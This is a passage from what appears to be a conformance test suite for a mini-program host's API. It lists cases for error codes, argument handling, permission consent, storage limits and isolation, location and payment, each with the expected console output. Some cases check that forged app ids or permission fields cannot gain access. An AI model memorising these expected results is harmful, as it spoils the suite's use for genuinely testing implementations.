               "mp.createMapContext('m').getCenterLocation({ fail: (e) => L('object ' + e.errCode + ' ' + e.errMsg) }); "
               "L('namespace ' + typeof mp.cloud + ' ' + typeof mp.cloud.callFunction)",
     console=['async 1008 addCard:fail not supported by MiniHost', 'complete',
              'promise 1008 chooseInvoice:fail not supported by MiniHost',
              'sync true 1008 getExptInfoSync:fail not supported by MiniHost',
              'namespace object function', 'object 1008 MapContext.getCenterLocation:fail not supported by MiniHost'],
     console_absent=['listener called'])
case('cc-host-wins', 'a name the host implements keeps the host\'s implementation', ['CC-13'],
     onload="mp.setStorageSync('k', 'v'); L('CC-13 ' + mp.getStorageSync('k') + ' ' + mp.canIUse('getStorageSync'))",
     console=['CC-13 v true'])

# ---------------------------------------------------------------- ER: error classes
case('er-1001-names-field', '1001 names the field that is wrong', ['ER-1'],
     asyncload=tryapi('er', "mp.setStorage({ key: 7, data: 1 })"),
     console=['er 1001 setStorage:fail invalid argument: key must be a non-empty string of at most 128 characters (got a number)'])
case('er-1002', '1002 when the permission is not declared', ['ER-2', 'CS-1'], asyncload=tryapi('er', "mp.getLocation({})"),
     console=['er 1002 getLocation:fail permission not declared'])
case('er-1003', '1003 when the user denied', ['ER-3', 'CS-2'], manifest={'req_permissions': [{'name': 'location', 'reason': 'r'}]}, args=['--deny', 'location'],
     asyncload=tryapi('er', "mp.getLocation({})"), console=['er 1003 getLocation:fail auth deny'])
case('er-1004-picker', '1004 when the user cancels a picker', ['ER-4', 'LO-9'], asyncload=tryapi('er', "mp.chooseLocation({})"),
     world={'places': [{'name': 'Park', 'address': 'Road 1', 'latitude': 39.9, 'longitude': 116.4}]}, console=[{'regex': '^er 1004 chooseLocation:fail cancel'}])
case('er-1005-quota', '1005 when a value is over the per-key quota', ['ER-5', 'ST-4'],
     asyncload=tryapi('er', "mp.setStorage({ key: 'big', data: [ 'a'.repeat(600000), 'b'.repeat(600000) ] })"), console=[{'regex': '^er 1005 setStorage:fail '}])
case('er-1006', '1006 when the wallet cannot pay', ['ER-6', 'PY-8'],
     manifest={'req_permissions': [{'name': 'payment', 'reason': 'r'}], 'merchant': {'id': 'm.shop', 'name': 'Shop'}},
     world={'wallet': {'currency': 'CNY', 'balance': 100, 'per_payment_limit': 100000, 'daily_limit': 100000}, 'merchants': [{'id': 'm.shop', 'name': 'Shop'}]},
     args=['--grant', 'payment'], asyncload=tryapi('er', "mp.requestPayment({ orderId: 'o1', amount: 500, currency: 'CNY' })"),
     console=['er 1006 requestPayment:fail insufficient funds: the wallet cannot pay 5.00 CNY'])
case('er-1007', '1007 when a key is not found', ['ER-7', 'ST-2'], asyncload=tryapi('er', "mp.getStorage({ key: 'none' })"),
     console=['er 1007 getStorage:fail data not found for key "none"'])
gps_off = {'device': {'location_services': False}}
disk_full = {'device': {'storage_full': True}}
off_msg = 'fail service unavailable: location services are off'
case('er-1008-location-off', '1008 when location services are off: getLocation with callbacks and with a Promise', ['ER-8', 'LO-10', 'CC-1', 'CC-2'],
     manifest={'req_permissions': [{'name': 'location', 'reason': 'r'}]}, args=['--grant', 'location'], world=gps_off,
     asyncload=("await new Promise((done) => mp.getLocation({ type: 'wgs84', success(r) { L('cb ok ' + r.errMsg) }, fail(e) { E('cb', e) }, complete() { L('cb complete'); done() } }));\n"
                + tryapi('promise', "mp.getLocation({ type: 'gcj02' })")),
     console=['cb 1008 getLocation:' + off_msg, 'cb complete', 'promise 1008 getLocation:' + off_msg], console_absent=['ok getLocation'])
case('er-1008-fuzzy-location-off', '1008 when location services are off: getFuzzyLocation and startLocationUpdate; chooseLocation still picks', ['ER-8', 'LO-10', 'LO-9'],
     manifest={'req_permissions': [{'name': 'location', 'reason': 'r'}, {'name': 'location.coarse', 'reason': 'r'}]},
     args=['--grant', 'location', '--grant', 'location.coarse', '--policy', 'policy.json'], files={'policy.json': '{"choose": "allow"}\n'},
     world=dict(gps_off, places=[{'name': 'Park', 'address': 'Road 1', 'latitude': 48.85, 'longitude': 2.35}]),
     asyncload=(tryapi('fuzzy', "mp.getFuzzyLocation({})") + tryapi('start', "mp.startLocationUpdate({ interval: 100 })")
                + "mp.onLocationChange(() => L('event'));\n" + tryapi('stop', "mp.stopLocationUpdate()")
                + "const p = await mp.chooseLocation({}); L('pick ' + p.name + ' ' + p.errMsg)"),
     console=['fuzzy 1008 getFuzzyLocation:' + off_msg, 'start 1008 startLocationUpdate:' + off_msg, 'stop ok stopLocationUpdate:ok', 'pick Park chooseLocation:ok'],
     console_absent=['event'])
case('er-1008-consent-first', 'with location services off a denied permission is still 1003 (the gate answers first)', ['ER-8', 'LO-10', 'ER-3', 'CS-2'],
     manifest={'req_permissions': [{'name': 'location', 'reason': 'r'}]}, args=['--deny', 'location'], world=gps_off,
     asyncload=tryapi('fuzzy-denied', "mp.getFuzzyLocation({})") + tryapi('denied', "mp.getLocation({})") + tryapi('denied-updates', "mp.startLocationUpdate({})"),
     console=['fuzzy-denied 1003 getFuzzyLocation:fail auth deny', 'denied 1003 getLocation:fail auth deny', 'denied-updates 1003 startLocationUpdate:fail auth deny'])
case('er-1008-not-declared-first', 'with location services off an undeclared permission is still 1002', ['ER-8', 'LO-10', 'ER-2', 'CS-1'], world=gps_off,
     args=['--grant', 'location'], asyncload=tryapi('er', "mp.getLocation({})") + tryapi('er', "mp.getFuzzyLocation({})"),
     console=['er 1002 getLocation:fail permission not declared', 'er 1002 getFuzzyLocation:fail permission not declared'])
full_msg = 'host error: cannot write storage (database or disk is full)'
case('er-1009-storage-full', '1009 when the disk is full: a 200 KB setStorage fails, earlier data stays, the app runs on', ['ER-9', 'ST-9'], world=disk_full,
     asyncload=("mp.setStorageSync('early', { n: 1 }); L('early stored');\n"
                + tryapi('big', "mp.setStorage({ key: 'big', data: 'x'.repeat(200000) })")
                + "L('early ' + JSON.stringify((await mp.getStorage({ key: 'early' })).data));\n"
                + tryapi('big-read', "mp.getStorage({ key: 'big' })")
                + "setTimeout(() => L('still running'), 20)"),
     console=['early stored', 'big 1009 setStorage:fail ' + full_msg, 'early {"n":1}', 'big-read 1007 getStorage:fail data not found for key "big"', 'still running'],
     console_match='exact', output_absent=['minihost.sqlite'], error_kinds_absent=['exception', 'unhandled_rejection'])
case('er-1009-storage-full-keeps-value', '1009 when the disk is full: a larger value for a key fails (callbacks, sync) and the old value is kept', ['ER-9', 'ST-9', 'CC-1', 'CC-5'],
     world=disk_full,
     asyncload=("mp.setStorageSync('k', 'small');\n"
                "await new Promise((done) => mp.setStorage({ key: 'k', data: 'y'.repeat(200000), success(r) { L('cb ok ' + r.errMsg) }, fail(e) { E('cb', e) }, complete() { done() } }));\n"
                "try { mp.setStorageSync('k', 'z'.repeat(200000)); L('sync stored') } catch (e) { E('sync', e) }\n"
                "L('k ' + mp.getStorageSync('k') + ' keys ' + mp.getStorageInfoSync().keys.join(','))"),
     console=['cb 1009 setStorage:fail ' + full_msg, 'sync 1009 setStorageSync:fail ' + full_msg, 'k small keys k'],
     output_absent=['minihost.sqlite'])
case('er-codes-distinct', 'every error class has its own numeric code 1001–1012', ['ER-13'],
     asyncload=("const codes = [];\n"
                "try { await mp.setStorage({ key: 1 }) } catch (e) { codes.push(e.errCode) }\n"
                "try { await mp.getLocation({}) } catch (e) { codes.push(e.errCode) }\n"
                "try { await mp.getStorage({ key: 'x' }) } catch (e) { codes.push(e.errCode) }\n"
                "L('ER-13 ' + codes.join(','))"), console=['ER-13 1001,1002,1007'])

# ---------------------------------------------------------------- AR: arguments cross once
case('ar-getter-once', 'a getter in the arguments runs exactly once', ['AR-1'],
     asyncload="let n = 0; const o = { key: 'g', get data() { n++; return n } }; await mp.setStorage(o); const r = await mp.getStorage({ key: 'g' }); L('AR-1 reads ' + n + ' stored ' + r.data)",
     console=['AR-1 reads 1 stored 1'])
case('ar-getter-once-sync', 'a getter runs once in a *Sync call too', ['AR-1'],
     onload="let n = 0; const d = { get v() { n++; return 'x' + n } }; mp.setStorageSync('g', d); L('AR-1 ' + n + ' ' + JSON.stringify(mp.getStorageSync('g')))",
     console=['AR-1 1 {"v":"x1"}'])
case('ar-no-tostring', 'toString, valueOf and toJSON are never called', ['AR-2'],
     asyncload=("let called = []; const o = { a: 1, toString() { called.push('toString'); return 'x' }, valueOf() { called.push('valueOf'); return 1 }, toJSON() { called.push('toJSON'); return 'j' } };\n"
                "await mp.setStorage({ key: 't', data: o }); const r = await mp.getStorage({ key: 't' }); L('AR-2 called [' + called.join(',') + '] ' + JSON.stringify(r.data))"),
     console=['AR-2 called [] {"a":1}'])
case('ar-key-tostring-not-called', 'an object as a key is rejected, its toString is not called', ['AR-2', 'ER-1'],
     asyncload="let called = false; try { await mp.setStorage({ key: { toString() { called = true; return 'k' } }, data: 1 }) } catch (e) { L('AR-2 ' + e.errCode + ' called ' + called) }",
     console=['AR-2 1001 called false'])
case('ar-functions-dropped', 'functions, symbols and undefined are dropped; in arrays they become null', ['AR-3'],
     asyncload="await mp.setStorage({ key: 'f', data: { f() {}, s: Symbol('x'), u: undefined, keep: 1, arr: [() => 1, undefined, 2] } }); L('AR-3 ' + JSON.stringify((await mp.getStorage({ key: 'f' })).data))",
     console=['AR-3 {"arr":[null,null,2],"keep":1}'])
case('ar-date-nonfinite', 'a Date becomes its ISO string; non-finite numbers null', ['AR-9'],
     asyncload="await mp.setStorage({ key: 'd', data: { d: new Date(0), n: NaN, i: Infinity } }); L('AR-9 ' + JSON.stringify((await mp.getStorage({ key: 'd' })).data))",
     console=['AR-9 {"d":"1970-01-01T00:00:00.000Z","i":null,"n":null}'])
case('ar-cycle', 'a cycle fails with 1001 and the path', ['AR-4', 'ER-1'],
     asyncload="const o = { items: [1, 2, 3, {}] }; o.items[3].self = o; " + tryapi('AR-4', "mp.setStorage({ key: 'c', data: o })"),
     console=['AR-4 1001 setStorage:fail invalid argument: data.items[3].self refers back to an object that contains it (a cycle)'])
case('ar-shared-not-cycle', 'the same object twice (not a cycle) is accepted', ['AR-4'],
     asyncload="const s = { v: 1 }; await mp.setStorage({ key: 's', data: { a: s, b: s } }); L('AR-4 ' + JSON.stringify((await mp.getStorage({ key: 's' })).data))",
     console=['AR-4 {"a":{"v":1},"b":{"v":1}}'])
case('ar-bigint', 'a BigInt fails with 1001', ['AR-5'], asyncload=tryapi('AR-5', "mp.setStorage({ key: 'b', data: { n: 10n } })"),
     console=[{'regex': '^AR-5 1001 setStorage:fail invalid argument: data.n is a BigInt'}])
case('ar-depth', 'nesting deeper than 64 fails with 1001', ['AR-6'],
     asyncload="let d = 1; for (let i = 0; i < 70; i++) d = { d }; " + tryapi('AR-6', "mp.setStorage({ key: 'deep', data: d })"),
     console=[{'regex': '^AR-6 1001 setStorage:fail invalid argument: .*(deep|depth|nest)'}])
case('ar-depth-ok', 'nesting of 60 levels is accepted', ['AR-6'],
     asyncload="let d = 1; for (let i = 0; i < 60; i++) d = { d }; " + tryapi('AR-6', "mp.setStorage({ key: 'deep', data: d })"), console=['AR-6 ok setStorage:ok'])
case('ar-long-string', 'a string over 1,048,576 characters fails with 1001', ['AR-7'],
     asyncload=tryapi('AR-7', "mp.setStorage({ key: 'long', data: 'x'.repeat(1048577 + 10) })"), console=[{'regex': '^AR-7 100[15] setStorage:fail '}])
case('ar-too-many-items', 'more than 100,000 items fails with 1001', ['AR-7'],
     asyncload=tryapi('AR-7', "mp.setStorage({ key: 'many', data: new Array(100001).fill(0) })"), console=[{'regex': '^AR-7 1001 setStorage:fail invalid argument'}])
case('ar-getter-throws', 'a getter that throws fails the call with 1001 naming the path', ['AR-8'],
     asyncload=tryapi('AR-8', "mp.setStorage({ key: 'x', data: { get bad() { throw new Error('nope') } } })"),
     console=[{'regex': '^AR-8 1001 setStorage:fail invalid argument: reading data.bad threw'}])
case('ar-proxy-traps', 'a Proxy argument is read once per property, without calling app functions afterwards', ['AR-10'], level='SHOULD',
     asyncload=("let gets = 0; const p = new Proxy({ a: 1, b: 2 }, { get(t, k) { gets++; return t[k] } });\n"
                "await mp.setStorage({ key: 'p', data: p }); const before = gets; await mp.getStorage({ key: 'p' }); L('AR-10 ' + (before <= 2) + ' ' + (gets === before))"),
     console=['AR-10 true true'])
case('ar-copy-not-shared', 'the host stores a copy: changing the object afterwards changes nothing', ['AR-1'],
     asyncload="const o = { v: 1 }; const p = mp.setStorage({ key: 'c', data: o }); o.v = 2; await p; L('AR-1 copy ' + (await mp.getStorage({ key: 'c' })).data.v)",
     console=['AR-1 copy 1'])
case('ar-forged-identity', 'an app id in the arguments does not change whose storage is used', ['AR-11', 'ST-5'],
     asyncload="await mp.setStorage({ key: 'k', data: 'mine', appId: 'org.other.app', app_id: 'org.other.app' }); L('AR-11 ' + mp.getStorageSync('k'))",
     console=['AR-11 mine'])

# ---------------------------------------------------------------- CS: consent
loc_manifest = {'req_permissions': [{'name': 'location', 'reason': 'to find you'}]}
case('cs-not-declared-no-prompt', 'not declared: 1002 without asking, even with a grant', ['CS-1'], args=['--grant', 'location'],
     asyncload=tryapi('CS-1', "mp.getLocation({})"), console=['CS-1 1002 getLocation:fail permission not declared'])
case('cs-denied', 'denied: 1003', ['CS-2'], manifest=loc_manifest, args=['--deny', 'location'],
     asyncload=tryapi('CS-2', "mp.getLocation({})") + tryapi('CS-2 again', "mp.getLocation({})"),
     console=['CS-2 1003 getLocation:fail auth deny', 'CS-2 again 1003 getLocation:fail auth deny'])
case('cs-granted', 'granted: the call goes ahead', ['CS-3'], manifest=loc_manifest, args=['--grant', 'location'],
     asyncload=tryapi('CS-3', "mp.getLocation({})"), console=['CS-3 ok getLocation:ok'])
case('cs-no-terminal-deny', 'undecided with no terminal and no policy: deny', ['CS-4'], manifest=loc_manifest,
     asyncload=tryapi('CS-4', "mp.getLocation({})"), console=['CS-4 1003 getLocation:fail auth deny'])
case('cs-policy-file-world', 'the world\'s policy answers consent', ['CS-4'], manifest=loc_manifest, world={'policy': {'location': 'allow'}},
     asyncload=tryapi('CS-4', "mp.getLocation({})"), console=['CS-4 ok getLocation:ok'])
case('cs-flag-overrides-world', '--deny overrides the world\'s policy', ['CS-4'], manifest=loc_manifest, world={'policy': {'location': 'allow'}},
     args=['--deny', 'location'], asyncload=tryapi('CS-4', "mp.getLocation({})"), console=['CS-4 1003 getLocation:fail auth deny'])
case('cs-authorize-ok', 'authorize with a granted scope succeeds', ['CS-5'], manifest=loc_manifest, args=['--grant', 'location'],
     asyncload=tryapi('CS-5', "mp.authorize({ scope: 'scope.userLocation' })"), console=['CS-5 ok authorize:ok'])
case('cs-authorize-denied', 'authorize with a denied scope fails with 1003', ['CS-5'], manifest=loc_manifest, args=['--deny', 'location'],
     asyncload=tryapi('CS-5', "mp.authorize({ scope: 'location' })"), console=['CS-5 1003 authorize:fail auth deny'])
case('cs-authorize-undeclared', 'authorize of an undeclared scope fails with 1002', ['CS-5', 'CS-1'],
     asyncload=tryapi('CS-5', "mp.authorize({ scope: 'scope.userLocation' })"), console=['CS-5 1002 authorize:fail permission not declared'])
case('cs-getsetting', 'getSetting reports decided permissions by name and WeChat scope', ['CS-5'], manifest=loc_manifest, args=['--grant', 'location'],
     asyncload="await mp.getLocation({}); const s = (await mp.getSetting()).authSetting; L('CS-5 ' + s['location'] + ' ' + s['scope.userLocation'])",
     console=['CS-5 true true'])
case('cs-getsetting-empty', 'getSetting is empty before any decision', ['CS-5'], manifest=loc_manifest,
     asyncload="const s = await mp.getSetting(); L('CS-5 ' + JSON.stringify(s.authSetting))", console=['CS-5 {}'])
case('cs-precise-includes-coarse', 'a precise location grant (given by --grant) allows fuzzy location', ['CS-6', 'LO-5'], manifest=loc_manifest, args=['--grant', 'location'],
     asyncload=tryapi('CS-6', "mp.getFuzzyLocation({})"), console=['CS-6 ok getFuzzyLocation:ok'])
case('cs-precise-grant-recorded-includes-coarse', 'a recorded precise location grant allows fuzzy location', ['CS-6', 'LO-5'], manifest=loc_manifest, args=['--grant', 'location'],
     asyncload="await mp.getLocation({}); " + tryapi('CS-6', "mp.getFuzzyLocation({})"), console=['CS-6 ok getFuzzyLocation:ok'])
case('cs-coarse-not-precise', 'a coarse grant does not allow precise location', ['CS-6'],
     manifest={'req_permissions': [{'name': 'location.coarse', 'reason': 'r'}]}, args=['--grant', 'location.coarse'],
     asyncload=tryapi('fuzzy', "mp.getFuzzyLocation({})") + tryapi('precise', "mp.getLocation({})"),
     console=['fuzzy ok getFuzzyLocation:ok', 'precise 1002 getLocation:fail permission not declared'])
case('cs-opt-permission', 'opt_permissions count as declared', ['CS-7'], manifest={'opt_permissions': [{'name': 'location', 'reason': 'r'}]},
     args=['--grant', 'location'], asyncload=tryapi('CS-7', "mp.getLocation({})"), console=['CS-7 ok getLocation:ok'])
case('cs-forged-permission-field', 'fields in the arguments cannot grant a permission', ['CS-8', 'AR-11'], manifest=loc_manifest, args=['--deny', 'location'],
     asyncload=tryapi('CS-8', "mp.getLocation({ granted: true, permission: 'granted', authSetting: { location: true } })"),
     console=[{'regex': '^CS-8 100[13] getLocation:fail'}], console_absent=['CS-8 ok'])
case('cs-storage-implicit', 'storage needs no permission', ['ST-7', 'CS-3'], asyncload=tryapi('ST-7', "mp.setStorage({ key: 'a', data: 1 })"),
     console=['ST-7 ok setStorage:ok'])

# ---------------------------------------------------------------- ST: storage
case('st-roundtrip-async', 'setStorage/getStorage round-trip JSON data', ['ST-1'],
     asyncload="await mp.setStorage({ key: 'k', data: { a: [1, { b: 'c' }], n: null, t: true } }); L('ST-1 ' + JSON.stringify((await mp.getStorage({ key: 'k' })).data))",
     console=['ST-1 {"a":[1,{"b":"c"}],"n":null,"t":true}'])
case('st-roundtrip-sync', 'the sync forms round-trip', ['ST-1', 'CC-5'], onload="mp.setStorageSync('n', 3.5); L('ST-1 ' + mp.getStorageSync('n'))", console=['ST-1 3.5'])
case('st-sync-missing', 'getStorageSync of a missing key returns ""', ['ST-2'], onload="L('ST-2 [' + mp.getStorageSync('none') + '] ' + typeof mp.getStorageSync('none'))",
     console=['ST-2 [] string'])
case('st-key-empty', 'an empty key fails with 1001', ['ST-3'], asyncload=tryapi('ST-3', "mp.setStorage({ key: '', data: 1 })"),
     console=[{'regex': '^ST-3 1001 setStorage:fail invalid argument: key'}])
case('st-key-too-long', 'a key over 128 characters fails with 1001', ['ST-3'], asyncload=tryapi('ST-3', "mp.setStorage({ key: 'k'.repeat(129), data: 1 })"),
     console=[{'regex': '^ST-3 1001 setStorage:fail invalid argument: key'}])
case('st-key-128', 'a key of 128 characters is accepted', ['ST-3'], asyncload=tryapi('ST-3', "mp.setStorage({ key: 'k'.repeat(128), data: 1 })"),
     console=['ST-3 ok setStorage:ok'])
case('st-per-key-limit', 'a value over 1 MB fails with 1005 and nothing is stored', ['ST-4'],
     asyncload=tryapi('ST-4', "mp.setStorage({ key: 'big', data: [ 'a'.repeat(600000), 'b'.repeat(600000) ] })") + "L('ST-4 stored [' + mp.getStorageSync('big') + ']')",
     console=[{'regex': '^ST-4 1005 setStorage:fail '}, 'ST-4 stored []'])
case('st-app-limit', 'the manifest\'s storage_mb caps the app\'s storage', ['ST-8'], manifest={'limits': {'storage_mb': 1}},
     asyncload="let code = 0; for (let i = 0; i < 4 && !code; i++) { try { await mp.setStorage({ key: 'k' + i, data: 'z'.repeat(400000) }) } catch (e) { code = e.errCode } } L('ST-8 ' + code)",
     console=['ST-8 1005'])
case('st-remove', 'removeStorage removes a key', ['ST-6'],
     asyncload="mp.setStorageSync('a', 1); await mp.removeStorage({ key: 'a' }); L('ST-6 [' + mp.getStorageSync('a') + ']')", console=['ST-6 []'])
case('st-clear', 'clearStorage removes every key', ['ST-6'],
     asyncload="mp.setStorageSync('a', 1); mp.setStorageSync('b', 2); await mp.clearStorage(); L('ST-6 ' + mp.getStorageInfoSync().keys.length)", console=['ST-6 0'])
case('st-info', 'getStorageInfo lists keys and sizes in KB', ['ST-6'],
     asyncload="mp.setStorageSync('b', 1); mp.setStorageSync('a', 2); const i = await mp.getStorageInfo(); L('ST-6 ' + i.keys.slice().sort().join(',') + ' ' + (typeof i.currentSize) + ' ' + i.limitSize)",
     console=['ST-6 a,b number 10240'])
case('st-overwrite', 'setStorage of an existing key replaces its value', ['ST-1'],
     onload="mp.setStorageSync('o', 1); mp.setStorageSync('o', { two: 2 }); L('ST-1 ' + JSON.stringify(mp.getStorageSync('o')))", console=['ST-1 {"two":2}'])
case('st-isolation', 'one app never sees another app\'s keys', ['ST-5', 'SB-9'], targets=['.', 'other'],
     files={'other/manifest.json': json.dumps({'app_id': 'org.conformance.st-isolation-other', 'name': 'Other', 'pages': ['pages/index/index']}, indent=2, sort_keys=True) + '\n',
            'other/app.js': 'App({})\n',
            'other/pages/index/index.js': "Page({ read() { console.log('other sees [' + mp.getStorageSync('secret') + '] keys ' + mp.getStorageInfoSync().keys.length) } })\n"},
     onload="mp.setStorageSync('secret', 'mine'); L('ST-5 written')", script="wait 50\n@org.conformance.st-isolation-other call - read\n",
     console=['ST-5 written', 'other sees [] keys 0'])
case('st-remove-missing', 'removeStorage of a missing key succeeds', ['ST-6'], level='SHOULD', asyncload=tryapi('ST-6', "mp.removeStorage({ key: 'never' })"),
     console=['ST-6 ok removeStorage:ok'])
case('st-unicode-key', 'keys and values keep Unicode', ['ST-1'], onload="mp.setStorageSync('键🔑', '值'); L('ST-1 ' + mp.getStorageSync('键🔑'))", console=['ST-1 值'])

# ---------------------------------------------------------------- LO: location
beijing = {'location': {'provider': 'fixed', 'latitude': 39.9087, 'longitude': 116.3975, 'accuracy': 8, 'altitude': 44}}
tokyo = {'location': {'provider': 'fixed', 'latitude': 35.6762, 'longitude': 139.6503, 'accuracy': 8}}
grant_loc = ['--grant', 'location']
case('lo-wgs84', 'getLocation({type: wgs84}) gives the world\'s point', ['LO-1'], manifest=loc_manifest, args=grant_loc, world=beijing,
     asyncload="const r = await mp.getLocation({ type: 'wgs84' }); L('LO-1 ' + r.latitude + ' ' + r.longitude + ' ' + r.accuracy)", console=['LO-1 39.9087 116.3975 8'])
case('lo-default-type', 'the default type is wgs84', ['LO-1'], manifest=loc_manifest, args=grant_loc, world=beijing,
     asyncload="const r = await mp.getLocation({}); L('LO-1 ' + r.latitude + ' ' + r.longitude)", console=['LO-1 39.9087 116.3975'])
case('lo-gcj02-china', 'gcj02 inside China applies the published transform', ['LO-2'], manifest=loc_manifest, args=grant_loc, world=beijing,
     asyncload="const r = await mp.getLocation({ type: 'gcj02' }); L('LO-2 ' + r.latitude.toFixed(4) + ' ' + r.longitude.toFixed(4))",
     console=['LO-2 39.9101 116.4037'])
case('lo-gcj02-outside', 'gcj02 outside China is the WGS-84 point unchanged', ['LO-3'], manifest=loc_manifest, args=grant_loc, world=tokyo,
     asyncload="const r = await mp.getLocation({ type: 'gcj02' }); L('LO-3 ' + r.latitude + ' ' + r.longitude)", console=['LO-3 35.6762 139.6503'])
case('lo-fields', 'the result has WeChat\'s fields; altitude 0 unless asked', ['LO-1'], manifest=loc_manifest, args=grant_loc, world=beijing,
     asyncload="const r = await mp.getLocation({}); const a = await mp.getLocation({ altitude: true }); L('LO-1 ' + ['speed', 'accuracy', 'altitude', 'verticalAccuracy', 'horizontalAccuracy'].every((k) => typeof r[k] === 'number') + ' ' + r.altitude + ' ' + a.altitude)",
     console=['LO-1 true 0 44'])
case('lo-bad-type', 'an unknown type fails with 1001', ['LO-6', 'ER-1'], manifest=loc_manifest, args=grant_loc,
     asyncload=tryapi('LO-6', "mp.getLocation({ type: 'bd09' })"), console=["LO-6 1001 getLocation:fail invalid argument: type must be one of 'wgs84', 'gcj02' (got 'bd09')"])
case('lo-fuzzy', 'getFuzzyLocation is about 1 km and never the precise point', ['LO-4'],
     manifest={'req_permissions': [{'name': 'location.coarse', 'reason': 'r'}]}, args=['--grant', 'location.coarse'], world=beijing,
     asyncload=("const a = await mp.getFuzzyLocation({}); const b = await mp.getFuzzyLocation({});\n"
                "L('LO-4 ' + a.accuracy + ' same ' + (a.latitude === b.latitude && a.longitude === b.longitude) + ' precise ' + (a.latitude === 39.9087 && a.longitude === 116.3975) + ' near ' + (Math.abs(a.latitude - 39.9087) < 0.01 && Math.abs(a.longitude - 116.3975) < 0.02))"),
     console=['LO-4 1000 same true precise false near true'])
case('lo-fuzzy-no-precise-fields', 'fuzzy location has no altitude or speed', ['LO-4'], level='SHOULD',
     manifest={'req_permissions': [{'name': 'location.coarse', 'reason': 'r'}]}, args=['--grant', 'location.coarse'],
     asyncload="const a = await mp.getFuzzyLocation({}); L('LO-4 keys ' + Object.keys(a).sort().join(','))", console=['LO-4 keys accuracy,errMsg,latitude,longitude'])
case('lo-rate-limit', 'after a burst of 10, getLocation is rate-limited with 1005', ['LO-7', 'ER-5'], manifest=loc_manifest, args=grant_loc,
     asyncload="let code = 0, n = 0; for (let i = 0; i < 12; i++) { try { await mp.getLocation({}); n++ } catch (e) { code = e.errCode; break } } L('LO-7 ' + n + ' ' + code)",
     console=['LO-7 10 1005'])
case('lo-updates', 'startLocationUpdate sends onLocationChange until stopped', ['LO-8', 'HE-1'], manifest=loc_manifest, args=grant_loc, world=beijing,
     asyncload=("let n = 0; mp.onLocationChange((p) => { n++ }); await mp.startLocationUpdate({ type: 'wgs84', interval: 100 }); L('LO-8 started');\n"
                "setTimeout(async () => { await mp.stopLocationUpdate(); const at = n; setTimeout(() => L('LO-8 got ' + (at >= 2) + ' stopped ' + (n === at)), 400) }, 350)"),
     console=['LO-8 started', 'LO-8 got true stopped true'])
case('lo-updates-need-permission', 'startLocationUpdate needs location', ['LO-8', 'CS-1'], asyncload=tryapi('LO-8', "mp.startLocationUpdate({})"),
     console=['LO-8 1002 startLocationUpdate:fail permission not declared'])
case('lo-choose-allow', 'chooseLocation returns only the picked place', ['LO-9'], args=['--policy', 'policy.json'],
     files={'policy.json': '{"choose": "allow"}\n'},
     world={'places': [{'name': 'Park', 'address': 'Road 1', 'latitude': 48.85, 'longitude': 2.35}, {'name': 'Zoo', 'address': 'Road 2', 'latitude': 48.86, 'longitude': 2.36}]},
     asyncload="const r = await mp.chooseLocation({}); L('LO-9 ' + r.name + ' ' + r.address + ' ' + Object.keys(r).sort().join(','))",
     console=['LO-9 Park Road 1 address,errMsg,latitude,longitude,name'])
case('lo-choose-none', 'chooseLocation with no places fails with 1007', ['LO-9', 'ER-7'], args=['--policy', 'policy.json'], files={'policy.json': '{"choose": "allow"}\n'},
     world={'places': []}, asyncload=tryapi('LO-9', "mp.chooseLocation({})"), console=[{'regex': '^LO-9 1007 chooseLocation:fail'}])
case('lo-choose-bad-center', 'chooseLocation checks its latitude', ['LO-9', 'ER-1'], asyncload=tryapi('LO-9', "mp.chooseLocation({ latitude: 91 })"),
     console=[{'regex': '^LO-9 1001 chooseLocation:fail invalid argument: latitude'}])
case('lo-interval-range', 'an update interval outside 100–60000 ms fails with 1001', ['LO-8', 'ER-1'], manifest=loc_manifest, args=grant_loc,
     asyncload=tryapi('LO-8', "mp.startLocationUpdate({ interval: 5 })"), console=[{'regex': '^LO-8 1001 startLocationUpdate:fail invalid argument: interval'}])

# ---------------------------------------------------------------- PY: payment
pay_manifest = {'req_permissions': [{'name': 'payment', 'reason': 'r'}], 'merchant': {'id': 'm.shop', 'name': 'Shop'}}
pay_world = {'wallet': {'currency': 'CNY', 'balance': 100000, 'per_payment_limit': 50000, 'daily_limit': 60000}, 'merchants': [{'id': 'm.shop', 'name': 'Shop'}]}
signed_world = {'wallet': {'currency': 'CNY', 'balance': 100000, 'per_payment_limit': 50000, 'daily_limit': 60000},
                'merchants': [{'id': 'm.shop', 'name': 'Shop', 'key': 'shop-key'}]}
grant_pay = ['--grant', 'payment']
def pay(label, order):
    return tryapi(label, "mp.requestPayment(%s)" % order)
case('py-charge', 'a payment is charged once and returns its record', ['PY-10'], manifest=pay_manifest, world=pay_world, args=grant_pay,
     asyncload="const r = await mp.requestPayment({ orderId: 'A-1', amount: 1234, currency: 'CNY' }); L('PY-10 ' + r.errMsg + ' ' + r.status + ' ' + r.amount + ' ' + /^tx-[0-9a-f]{32}$/.test(r.transactionId) + ' balance ' + ('balance' in r))",
     console=['PY-10 requestPayment:ok charged 1234 true balance false'])
case('py-idempotent', 'the same order id is charged once: a retry returns the first result', ['PY-5'], manifest=pay_manifest, world=pay_world, args=grant_pay,
     asyncload="const a = await mp.requestPayment({ orderId: 'A-2', amount: 100, currency: 'CNY' }); const b = await mp.requestPayment({ orderId: 'A-2', amount: 100, currency: 'CNY' }); L('PY-5 ' + (a.transactionId === b.transactionId) + ' ' + (a.time === b.time))",
     console=['PY-5 true true'])
case('py-idempotent-other-terms', 'the same order id with another amount fails with 1011', ['PY-6', 'ER-11'], manifest=pay_manifest, world=pay_world, args=grant_pay,
     asyncload="await mp.requestPayment({ orderId: 'A-3', amount: 100, currency: 'CNY' }); " + pay('PY-6', "{ orderId: 'A-3', amount: 200, currency: 'CNY' }"),
     console=[{'regex': '^PY-6 1011 requestPayment:fail invalid order: order A-3 was already charged'}])
case('py-bad-amount', 'a non-integer amount fails with 1011 before any prompt', ['PY-1', 'ER-11'], manifest=pay_manifest, world=pay_world,
     asyncload=pay('PY-1', "{ orderId: 'A-4', amount: 12.5, currency: 'CNY' }"), console=[{'regex': '^PY-1 1011 requestPayment:fail invalid order: amount'}])
case('py-zero-amount', 'a zero amount fails with 1011', ['PY-1'], manifest=pay_manifest, world=pay_world, args=grant_pay,
     asyncload=pay('PY-1', "{ orderId: 'A-5', amount: 0, currency: 'CNY' }"), console=[{'regex': '^PY-1 1011 requestPayment:fail invalid order: amount'}])
case('py-bad-order-id', 'an order id with bad characters fails with 1011', ['PY-1'], manifest=pay_manifest, world=pay_world, args=grant_pay,
